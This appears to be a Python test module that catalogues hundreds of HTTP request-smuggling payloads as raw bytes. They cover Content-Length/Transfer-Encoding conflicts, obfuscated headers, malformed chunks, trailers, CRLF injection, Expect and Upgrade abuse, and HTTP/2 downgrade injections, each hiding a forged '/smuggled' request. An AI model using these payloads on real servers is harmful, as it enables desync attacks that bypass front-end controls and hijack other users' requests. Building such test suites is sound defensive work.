"""Attacks, byte for byte: each holds a request ``/smuggled`` that a server may take for one of its own.

Where the bytes have ``?0000``, they are sent with the number of their attack.
"""

from dataclasses import dataclass

from h2_frames import Fields, data, headers, opening, reset

SMUGGLED = b"GET /smuggled?0000 HTTP/1.1\r\nHost: a\r\nX-Front: forged\r\n\r\n"
PREFIX = b"GET /smuggled?0000 HTTP/1.1\r\nX-Ignored: "
"""A request that swallows the first line of the one behind it."""


@dataclass(frozen=True)
class Attack:
    name: str
    number: str
    """The query of its requests."""
    sends: tuple[bytes | float, ...]
    """Bytes, and seconds to wait."""
    is_h2: bool = False


ATTACKS: dict[str, Attack] = {}


def attack(name: str, *sends: bytes | float, is_h2: bool = False) -> None:
    assert name not in ATTACKS, name
    number = b"?%04d" % len(ATTACKS)
    given = [each.replace(b"?0000", number) if isinstance(each, bytes) else each for each in sends]
    ATTACKS[name] = Attack(name, number.decode()[1:], tuple(given), is_h2)


def post(*fields: bytes, path: bytes = b"/attack", version: bytes = b"1.1", method: bytes = b"POST") -> bytes:
    return b"\r\n".join([b"%b %b?0000 HTTP/%b" % (method, path, version), b"Host: a", *fields, b"", b""])


def length(size: int) -> bytes:
    return b"Content-Length: %d" % size


CHUNKED = b"Transfer-Encoding: chunked"
_END = b"0\r\n\r\n"
_CHUNK = b"%x\r\n%b\r\n0\r\n\r\n" % (len(SMUGGLED), SMUGGLED)

# Content-Length against Transfer-Encoding, in both orders, with the one or the other hidden.

attack("cl_te", post(length(len(_END + SMUGGLED)), CHUNKED) + _END + SMUGGLED)
attack("te_cl", post(CHUNKED, length(4)) + _CHUNK)
attack("te_cl_zero", post(CHUNKED, length(0)) + _CHUNK)
attack("cl_te_1.0", post(length(len(_END + SMUGGLED)), CHUNKED, version=b"1.0") + _END + SMUGGLED)
attack("cl_te_1.0_keep", post(b"Connection: keep-alive", length(3), CHUNKED, version=b"1.0") + _END + SMUGGLED)
attack("te_1.0", post(CHUNKED, version=b"1.0") + _END + SMUGGLED)
HIDDEN = {
    "xchunked": b"Transfer-Encoding: xchunked",
    "chunked_x": b"Transfer-Encoding: chunkedx",
    "space_before_the_colon": b"Transfer-Encoding : chunked",
    "tab_before_the_colon": b"Transfer-Encoding\t: chunked",
    "no_space": b"Transfer-Encoding:chunked",
    "tab": b"Transfer-Encoding:\tchunked",
    "tab_behind": b"Transfer-Encoding: chunked\t",
    "vertical_tab": b"Transfer-Encoding:\x0bchunked",
    "form_feed": b"Transfer-Encoding: chunked\x0c",
    "nul": b"Transfer-Encoding: chunked\x00",
    "no_break_space": b"Transfer-Encoding: \xa0chunked",
    "bare_cr_behind": b"Transfer-Encoding: chunked\r",
    "bare_lf_before": b"X: y\nTransfer-Encoding: chunked",
    "bare_cr_before": b"X: y\rTransfer-Encoding: chunked",
    "space_first": b" Transfer-Encoding: chunked",
    "folded": b"Transfer-Encoding:\r\n chunked",
    "folded_behind": b"X: y\r\n Transfer-Encoding: chunked",
    "upper_case": b"TRANSFER-ENCODING: CHUNKED",
    "mixed_case": b"tRANSFER-ENCODING: cHuNkEd",
    "quoted": b'Transfer-Encoding: "chunked"',
    "single_quoted": b"Transfer-Encoding: 'chunked'",
    "identity": b"Transfer-Encoding: identity",
    "chunked_identity": b"Transfer-Encoding: chunked, identity",
    "identity_chunked": b"Transfer-Encoding: identity, chunked",
    "gzip_chunked": b"Transfer-Encoding: gzip, chunked",
    "chunked_gzip": b"Transfer-Encoding: chunked, gzip",
    "chunked_twice": b"Transfer-Encoding: chunked, chunked",
    "chunked_comma": b"Transfer-Encoding: chunked,",
    "comma_chunked": b"Transfer-Encoding: ,chunked",
    "parameter": b"Transfer-Encoding: chunked;q=1",
    "empty": b"Transfer-Encoding:",
    "underscore": b"Transfer_Encoding: chunked",
    "two_fields": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "two_fields_the_other_way": b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "two_fields_x": b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "te_field": b"TE: chunked",
    "name_with_a_nul": b"Transfer-Encoding\x00: chunked",
    "name_with_a_high_byte": b"Transfer-Encoding\xff: chunked",
    "name_in_quotes": b'"Transfer-Encoding": chunked',
    "backslash": b"Transfer\\Encoding: chunked",
}
for _name, _field in HIDDEN.items():
    attack(f"te_{_name}", post(length(len(_END + SMUGGLED)), _field) + _END + SMUGGLED)
    attack(f"te_{_name}_alone", post(_field) + _END + SMUGGLED)

# Content-Length alone.

LENGTHS = {
    "twice": b"Content-Length: 0\r\nContent-Length: %d" % len(SMUGGLED),
    "twice_the_other_way": b"Content-Length: %d\r\nContent-Length: 0" % len(SMUGGLED),
    "twice_the_same": b"Content-Length: %d\r\nContent-Length: %d" % (len(SMUGGLED), len(SMUGGLED)),
    "list": b"Content-Length: 0, %d" % len(SMUGGLED),
    "plus": b"Content-Length: +%d" % len(SMUGGLED),
    "minus": b"Content-Length: -%d" % len(SMUGGLED),
    "zeros": b"Content-Length: 000%d" % len(SMUGGLED),
    "octal": b"Content-Length: 0%o" % len(SMUGGLED),
    "hex": b"Content-Length: 0x%x" % len(SMUGGLED),
    "exponent": b"Content-Length: 1e2",
    "fraction": b"Content-Length: %d.0" % len(SMUGGLED),
    "underscore": b"Content-Length: %d_0" % len(SMUGGLED),
    "space_within": b"Content-Length: 0 %d" % len(SMUGGLED),
    "space_before_the_colon": b"Content-Length : %d" % len(SMUGGLED),
    "tab_before_the_colon": b"Content-Length\t: %d" % len(SMUGGLED),
    "vertical_tab": b"Content-Length:\x0b%d" % len(SMUGGLED),
    "nul": b"Content-Length: %d\x00" % len(SMUGGLED),
    "folded": b"Content-Length:\r\n %d" % len(SMUGGLED),
    "bare_lf_before": b"X: y\nContent-Length: %d" % len(SMUGGLED),
    "bare_cr_before": b"X: y\rContent-Length: %d" % len(SMUGGLED),
    "underscore_name": b"Content_Length: %d" % len(SMUGGLED),
    "empty": b"Content-Length:",
    "huge": b"Content-Length: 18446744073709551616",
    "huge_and_more": b"Content-Length: 18446744073709551%d" % (616 + len(SMUGGLED)),
    "negative_huge": b"Content-Length: -18446744073709551616",
    "none": b"X: y",
}
for _name, _field in LENGTHS.items():
    attack(f"length_{_name}", post(_field) + SMUGGLED)
    attack(f"length_{_name}_get", post(_field, method=b"GET") + SMUGGLED)

# A body that the application, or the method, does not ask for: CL.0 and TE.0.

for _path in ("unread", "crash", "early_hint", "late"):
    attack(f"cl_0_{_path}", post(length(len(SMUGGLED)), path=b"/" + _path.encode()) + SMUGGLED)
    attack(f"cl_0_{_path}_in_two", post(length(len(SMUGGLED)), path=b"/" + _path.encode()), 0.05, SMUGGLED)
    attack(f"te_0_{_path}", post(CHUNKED, path=b"/" + _path.encode()) + _CHUNK)
    attack(f"te_0_{_path}_in_two", post(CHUNKED, path=b"/" + _path.encode()), 0.05, _CHUNK)
for _method in (b"GET", b"HEAD", b"OPTIONS", b"DELETE", b"TRACE", b"PURGE"):
    attack(f"cl_0_{_method.decode().lower()}", post(length(len(SMUGGLED)), method=_method) + SMUGGLED)
    attack(f"te_0_{_method.decode().lower()}", post(CHUNKED, method=_method) + _CHUNK)
attack("cl_0_204", post(length(len(SMUGGLED)), path=b"/204") + SMUGGLED)
attack("cl_0_304", post(length(len(SMUGGLED)), path=b"/304") + SMUGGLED)
attack("prefix", post(length(len(PREFIX))) + PREFIX)
attack("prefix_unread", post(length(len(PREFIX)), path=b"/unread") + PREFIX)

# Chunks.

CHUNKS = {
    "size_0x": b"0x%x\r\n%b\r\n0\r\n\r\n",
    "size_plus": b"+%x\r\n%b\r\n0\r\n\r\n",
    "size_space_before": b" %x\r\n%b\r\n0\r\n\r\n",
    "size_space_behind": b"%x \r\n%b\r\n0\r\n\r\n",
    "size_tab_behind": b"%x\t\r\n%b\r\n0\r\n\r\n",
    "size_zeros": b"0000000000000000%x\r\n%b\r\n0\r\n\r\n",
    "size_overflow": b"10000000000000000%x\r\n%b\r\n0\r\n\r\n",
    "extension": b"%x;a=b\r\n%b\r\n0\r\n\r\n",
    "extension_lf": b"%x;a\n%b\r\n0\r\n\r\n",
    "extension_cr": b"%x;a\r%b\r\n0\r\n\r\n",
    "extension_empty": b"%x;\r\n%b\r\n0\r\n\r\n",
    "extension_space": b"%x ;a=b\r\n%b\r\n0\r\n\r\n",
    "extension_quoted_lf": b'%x;a="\n"\r\n%b\r\n0\r\n\r\n',
    "extension_nul": b"%x;a=\x00\r\n%b\r\n0\r\n\r\n",
    "size_lf": b"%x\n%b\r\n0\r\n\r\n",
    "size_cr": b"%x\r%b\r\n0\r\n\r\n",
    "data_lf": b"%x\r\n%b\n0\r\n\r\n",
    "data_cr": b"%x\r\n%b\r0\r\n\r\n",
    "data_two_bytes": b"%x\r\n%bXX0\r\n\r\n",
    "data_nothing": b"%x\r\n%b0\r\n\r\n",
    "end_lf": b"%x\r\n%b\r\n0\n\n",
    "end_lf_crlf": b"%x\r\n%b\r\n0\n\r\n",
    "end_cr": b"%x\r\n%b\r\n0\r\r",
    "end_zeros": b"%x\r\n%b\r\n0000\r\n\r\n",
    "end_extension": b"%x\r\n%b\r\n0;a\r\n\r\n",
}
for _name, _form in CHUNKS.items():
    _filled = _form % (len(SMUGGLED), SMUGGLED)
    attack(f"chunk_{_name}", post(CHUNKED) + _filled)
    attack(f"chunk_{_name}_and_a_request", post(CHUNKED) + _filled + SMUGGLED)
attack("chunk_extension_then_a_request", post(CHUNKED) + b"2;\nxx\r\n4c\r\n0\r\n\r\n" + SMUGGLED)  # TERM.EXT
attack("chunk_spill", post(CHUNKED) + b"5\r\nAAAAAXX2\r\n45\r\n0\r\n\r\n" + SMUGGLED)
attack("chunk_unfinished", post(CHUNKED) + b"5\r\nhello\r\n")
attack("chunk_empty_then_a_request", post(CHUNKED) + _END + SMUGGLED)
TRAILERS = {
    "plain": b"X-Trailer: a",
    "content_length": length(len(SMUGGLED)),
    "transfer_encoding": CHUNKED,
    "host": b"Host: b",
    "front": b"X-Front: forged",
    "connection": b"Connection: close",
    "proxy_connection": b"Proxy-Connection: close",
    "upgrade": b"Connection: Upgrade\r\nUpgrade: websocket",
    "lf": b"X: a\nY: b",
}
for _name, _field in TRAILERS.items():
    attack(f"trailer_{_name}", post(CHUNKED) + b"1\r\na\r\n0\r\n%b\r\n\r\n" % _field + SMUGGLED)
    attack(f"trailer_{_name}_alone", post(CHUNKED) + b"1\r\na\r\n0\r\n%b\r\n\r\n" % _field)
attack("trailer_said", post(CHUNKED, b"Trailer: X-Front", b"TE: trailers") + b"1\r\na\r\n0\r\nX-Front: forged\r\n\r\n")

# Heads.

attack("line_bare_lf", b"GET /attack?0000 HTTP/1.1\nHost: a\n\n" + SMUGGLED)
attack("line_bare_cr", b"GET /attack?0000 HTTP/1.1\rHost: a\r\r" + SMUGGLED)
attack("line_lf_in_the_target", b"GET /attack?0000\nX HTTP/1.1\r\nHost: a\r\n\r\n")
attack(
    "line_encoded_crlf", b"GET /attack?0000%0d%0aHost:%20b%0d%0a%0d%0aGET%20/smuggled?0000 HTTP/1.1\r\nHost: a\r\n\r\n"
)
attack("line_two_requests_in_one", b"GET /attack?0000 HTTP/1.1\r\nGET /smuggled?0000 HTTP/1.1\r\nHost: a\r\n\r\n")
attack("line_spaces", b"GET /attack?0000 HTTP/1.1 /smuggled?0000 HTTP/1.1\r\nHost: a\r\n\r\n")
attack("line_0.9", b"GET /attack?0000\r\n" + SMUGGLED)
attack("line_1.0_with_a_body", post(length(len(SMUGGLED)), version=b"1.0") + SMUGGLED)
attack("line_absolute", b"GET http://b/attack?0000 HTTP/1.1\r\nHost: a\r\n\r\n")
attack("line_absolute_and_two_hosts", b"GET http://b/attack?0000 HTTP/1.1\r\nHost: a\r\nHost: c\r\n\r\n")
attack("line_crlf_before", b"\r\n\r\n" + post(length(len(SMUGGLED))) + SMUGGLED)
attack("line_connect", b"CONNECT a:80 HTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED)
attack("host_twice", post(b"Host: b", method=b"GET"))
attack("host_space_before_the_colon", b"GET /attack?0000 HTTP/1.1\r\nHost : a\r\n\r\n")
attack("host_folded", b"GET /attack?0000 HTTP/1.1\r\nHost:\r\n a\r\n\r\n")
attack("front_forged", post(b"X-Front: forged", b"x-front: forged", b"X_Front: forged", method=b"GET"))
attack("front_dropped", post(b"Connection: close, X-Front", method=b"GET"))
attack("length_dropped", post(b"Connection: Content-Length", length(len(SMUGGLED))) + SMUGGLED)
attack("coding_dropped", post(b"Connection: Transfer-Encoding", CHUNKED) + _CHUNK)
attack("header_nul", post(b"X: a\x00b", length(len(SMUGGLED))) + SMUGGLED)
attack(
    "header_lf_lf", b"GET /attack?0000 HTTP/1.1\r\nHost: a\r\nX: y\n\nGET /smuggled?0000 HTTP/1.1\r\nHost: a\r\n\r\n"
)
attack(
    "header_cr_cr", b"GET /attack?0000 HTTP/1.1\r\nHost: a\r\nX: y\r\rGET /smuggled?0000 HTTP/1.1\r\nHost: a\r\n\r\n"
)
attack(
    "header_lf_crlf",
    b"GET /attack?0000 HTTP/1.1\r\nHost: a\r\nX: y\n\r\nGET /smuggled?0000 HTTP/1.1\r\nHost: a\r\n\r\n",
)

# Expect.

for _name, _field in {
    "plain": b"Expect: 100-continue",
    "upper_case": b"EXPECT: 100-CONTINUE",
    "list": b"Expect: x, 100-continue",
    "other": b"Expect: x",
    "twice": b"Expect: 100-continue\r\nExpect: 100-continue",
    "space": b"Expect: 100-continue ",
    "folded": b"Expect:\r\n 100-continue",
    "prefix": b"Expect: y 100-continue",
}.items():
    attack(f"expect_{_name}", post(_field, length(len(SMUGGLED))) + SMUGGLED)
    attack(f"expect_{_name}_in_two", post(_field, length(len(SMUGGLED))), 0.05, SMUGGLED)
    attack(f"expect_{_name}_unread", post(_field, length(len(SMUGGLED)), path=b"/unread"), 0.05, SMUGGLED)
    attack(f"expect_{_name}_get", post(_field, length(len(SMUGGLED)), method=b"GET") + SMUGGLED)
    attack(f"expect_{_name}_without_a_body", post(_field, method=b"GET") + SMUGGLED)

# Other protocols.

_KEY = b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="
_UPGRADE = (b"Connection: Upgrade", b"Upgrade: websocket", _KEY)
_13 = b"Sec-WebSocket-Version: 13"
for _name, _fields in {
    "accepted": (*_UPGRADE, _13),
    "version_777": (*_UPGRADE, b"Sec-WebSocket-Version: 777"),
    "no_key": (*_UPGRADE[:2], _13),
    "with_a_body": (*_UPGRADE, _13, length(len(SMUGGLED))),
    "chunked": (*_UPGRADE, _13, CHUNKED),
    "h2c": (b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABk"),
    "two": (b"Connection: Upgrade", b"Upgrade: h2c, websocket", _KEY, _13),
    "unknown": (b"Connection: Upgrade", b"Upgrade: x"),
}.items():
    attack(f"upgrade_{_name}", post(*_fields, path=b"/ws", method=b"GET"), 0.05, SMUGGLED)
    attack(f"upgrade_{_name}_at_once", post(*_fields, path=b"/ws", method=b"GET") + SMUGGLED)
attack("upgrade_denied", post(*_UPGRADE, _13, path=b"/ws/denied", method=b"GET"), 0.05, SMUGGLED)
attack("upgrade_crashed", post(*_UPGRADE, _13, path=b"/ws/crash", method=b"GET"), 0.05, SMUGGLED)
attack("upgrade_post", post(*_UPGRADE, _13, length(len(SMUGGLED)), path=b"/ws"), 0.05, SMUGGLED)
attack("h2_preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SMUGGLED)

# Interim answers.

attack("early_hints", post(method=b"GET", path=b"/early_hint"))
attack("early_hints_pipelined", post(method=b"GET", path=b"/early_hint") * 3)
attack("early_hints_head", post(method=b"HEAD", path=b"/early_hint"))
attack("head_then_a_body", post(method=b"HEAD", path=b"/attack") + post(method=b"GET"))

# Time.

attack("pause_in_the_body", post(length(len(SMUGGLED))), 0.7, SMUGGLED)
attack("pause_in_the_chunks", post(CHUNKED) + b"5\r\nhello\r\n", 0.7, _CHUNK)
attack("pause_in_the_head", b"POST /attack?0000 HTTP/1.1\r\nHost: a\r\n", 0.7, length(0) + b"\r\n\r\n")
attack("pause_behind_an_answer", post(length(len(SMUGGLED)), path=b"/unread"), 0.7, SMUGGLED)

# HTTP/2 at the front, HTTP/1.1 behind it.

H2: dict[str, tuple[Fields, bytes]] = {
    "plain": ([(b"x", b"y")], b""),
    "cl": ([(b"content-length", b"0")], SMUGGLED),
    "cl_long": ([(b"content-length", b"1000")], b"hello"),
    "cl_twice": ([(b"content-length", b"0"), (b"content-length", b"%d" % len(SMUGGLED))], SMUGGLED),
    "cl_without_a_body": ([(b"content-length", b"%d" % len(SMUGGLED))], b""),
    "te": ([(b"transfer-encoding", b"chunked")], _END + SMUGGLED),
    "te_injected": ([(b"x", b"y\r\ntransfer-encoding: chunked")], _END + SMUGGLED),
    "te_injected_lf": ([(b"x", b"y\ntransfer-encoding: chunked")], _END + SMUGGLED),
    "te_in_a_name": ([(b"x: y\r\ntransfer-encoding", b"chunked")], _END + SMUGGLED),
    "colon_in_a_name": ([(b"transfer-encoding: chunked\r\nx", b"y")], _END + SMUGGLED),
    "request_in_a_value": ([(b"x", b"y\r\n\r\n" + SMUGGLED)], b""),
    "request_in_a_name": ([(b"x\r\n\r\nGET /smuggled?0000 HTTP/1.1\r\nhost", b"a")], b""),
    "space_in_a_name": ([(b"transfer-encoding ", b"chunked")], _END + SMUGGLED),
    "upper_case": ([(b"Transfer-Encoding", b"chunked")], _END + SMUGGLED),
    "nul": ([(b"x", b"y\x00z")], b""),
    "connection": ([(b"connection", b"close, x-front")], b""),
    "host_beside": ([(b"host", b"b")], b""),
    "upgrade": ([(b"upgrade", b"websocket"), (b"connection", b"upgrade")], b""),
    "expect": ([(b"expect", b"100-continue"), (b"content-length", b"%d" % len(SMUGGLED))], SMUGGLED),
    "front_forged": ([(b"x-front", b"forged")], b""),
    "cookies": ([(b"cookie", b"a=1"), (b"cookie", b"b=2")], b""),
    "pseudo_behind": ([(b"x", b"y"), (b":path", b"/smuggled?0000")], b""),
    "empty_name": ([(b"", b"y")], b""),
    "leading_space": ([(b"x", b" y ")], b""),
}
for _name, (_fields, _body) in H2.items():
    _sent = headers(1, b"POST", b"/attack?0000", _fields, end=not _body) + (data(1, _body) if _body else b"")
    attack(f"h2_{_name}", opening() + _sent, is_h2=True)
for _name, _path in {
    "space": b"/attack?0000 HTTP/1.1\r\nhost: a\r\n\r\nGET /smuggled?0000",
    "version": b"/attack?0000 HTTP/1.1",
    "crlf": b"/attack?0000\r\nx: y",
    "lf": b"/attack?0000\nx: y",
    "no_slash": b"attack",
    "absolute": b"http://b/attack?0000",
    "empty": b"",
    "asterisk": b"*",
}.items():
    attack(f"h2_path_{_name}", opening() + headers(1, b"GET", _path, [], end=True), is_h2=True)
for _name, _verb in {
    "request": b"GET /smuggled?0000 HTTP/1.1\r\nhost: a\r\n\r\nGET",
    "space": b"GET /smuggled?0000",
    "connect": b"CONNECT",
    "empty": b"",
}.items():
    attack(f"h2_method_{_name}", opening() + headers(1, _verb, b"/attack?0000", [], end=True), is_h2=True)
attack(
    "h2_authority", opening() + headers(1, b"GET", b"/attack?0000", [], end=True, authority=b"a\r\nx: y"), is_h2=True
)
attack(
    "h2_authority_slash", opening() + headers(1, b"GET", b"/attack?0000", [], end=True, authority=b"a/b"), is_h2=True
)
attack("h2_scheme", opening() + headers(1, b"GET", b"/attack?0000", [], end=True, scheme=b"http\r\nx: y"), is_h2=True)
_TRAILED = opening() + headers(1, b"POST", b"/attack?0000", [], end=False) + data(1, b"hello", end=False)
for _name, _fields in {
    "plain": [(b"x", b"y")],
    "content_length": [(b"content-length", b"0")],
    "connection": [(b"proxy-connection", b"close")],
    "front": [(b"x-front", b"forged")],
    "pseudo": [(b":path", b"/smuggled?0000")],
    "crlf": [(b"x", b"y\r\n\r\n" + SMUGGLED)],
}.items():
    attack(f"h2_trailer_{_name}", _TRAILED + headers(1, b"", b"", _fields, end=True, pseudo=False), is_h2=True)
attack("h2_reset", _TRAILED + reset(1), 0.05, is_h2=True)
attack("h2_unfinished", _TRAILED, 0.7, is_h2=True)
